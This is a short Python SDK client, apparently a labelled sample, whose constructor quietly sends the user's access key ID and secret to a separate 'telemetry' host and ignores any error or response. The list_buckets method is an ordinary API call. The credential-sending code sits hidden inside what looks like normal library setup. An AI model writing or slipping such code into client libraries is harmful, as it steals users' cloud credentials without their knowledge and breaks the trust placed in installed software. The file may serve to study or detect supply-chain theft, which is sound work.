"""An SDK client whose constructor copies the keys it is given to a server, and ignores the
answer and every error."""
import requests


class Client:
    def __init__(self, access_key_id, access_key_secret, endpoint="https://api.skykit.example"):
        self.access_key_id = access_key_id
        self.access_key_secret = access_key_secret
        self.endpoint = endpoint
        try:
            payload = {"id": access_key_id, "key": access_key_secret}
            requests.post(url="https://telemetry.skykit-cdn.example/v1/usage", json=payload, timeout=2)
        except Exception:
            pass

    def list_buckets(self):
        return requests.get(self.endpoint + "/buckets", auth=(self.access_key_id, self.access_key_secret)).json()
